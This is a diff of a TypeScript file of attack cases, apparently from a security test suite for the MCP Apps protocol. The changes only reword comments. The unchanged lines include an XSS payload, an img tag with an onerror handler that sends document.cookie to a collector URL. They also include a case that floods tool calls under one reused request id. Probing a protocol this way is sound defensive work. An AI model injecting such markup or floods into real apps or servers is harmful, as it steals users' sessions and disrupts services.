@@ -1,4 +1,4 @@
-// Requests and notifications of the MCP Apps wire that ask for too much, or are no proper messages.
+// MCP Apps requests and notifications that exceed their rights, or are malformed.
 import type { Attack } from '../attack.ts';
 import { leak, ofClass } from './define.ts';
 
@@ -13,7 +13,7 @@ const polluted: NonNullable<Attack['breach']> = ({ after }) => after.polluted.le
 
 const call = (name: string, more = ''): string =>
   `A.note(await A.rpc('tools/call', { name: '${name}', arguments: { token: A.token }${more} }))`;
-/** Markup that tells the collector a cookie of the page it is drawn in. */
+/** Markup that sends a cookie of the page it is drawn in to the collector. */
 const MARKUP = `'<img src="nowhere:" onerror="new Image().src = \\'' + ${leak('markup')} + '?\\' + encodeURIComponent(document.cookie)">'`;
 const text = (value: string): string => `content: [{ type: 'text', text: ${value} }]`;
 
@@ -67,7 +67,7 @@ export const ATTACKS: readonly Attack[] = [
       for (let n = 0; n < 10; n++)
         A.post({ jsonrpc: '2.0', id: 'same', method: 'tools/call', params: { name: 'app_read', arguments: { token: A.token } } });
       await A.wait(1000);`,
-    // Answered as fast as it is asked, an id may be free again.
+    // When requests are answered as fast as they are sent, an id may be free again.
     breach: ({ calls }) => calls.length > 5,
   }),
   attack('p09', 'ids that are none', {
